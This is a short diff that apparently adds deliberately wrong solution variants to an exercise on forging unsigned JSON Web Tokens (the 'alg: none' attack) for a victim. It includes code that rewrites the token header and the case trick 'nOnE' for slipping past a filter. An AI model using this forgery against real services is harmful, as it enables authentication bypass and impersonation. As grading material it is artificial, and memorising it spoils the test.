@@ -47,3 +47,15 @@ def forge_unsigned(token, victim, alg):
 # %% wrong refused: two parts
 # -     return f"{encoded(header)}.{encoded(changed)}."
 # +     return f"{encoded(header)}.{encoded(changed)}"
+
+
+# %% wrong another-word: hard-coded, one spelling that gets through
+# -     header = {**json.loads(decoded(head)), "alg": alg}
+# +     header = {**json.loads(decoded(head)), "alg": "nOnE"}
+
+
+# %% wrong signed: the old signature stays
+# -     head, claims, _ = token.split(".")
+# +     head, claims, signature = token.split(".")
+# -     return f"{encoded(header)}.{encoded(changed)}."
+# +     return f"{encoded(header)}.{encoded(changed)}.{signature}"
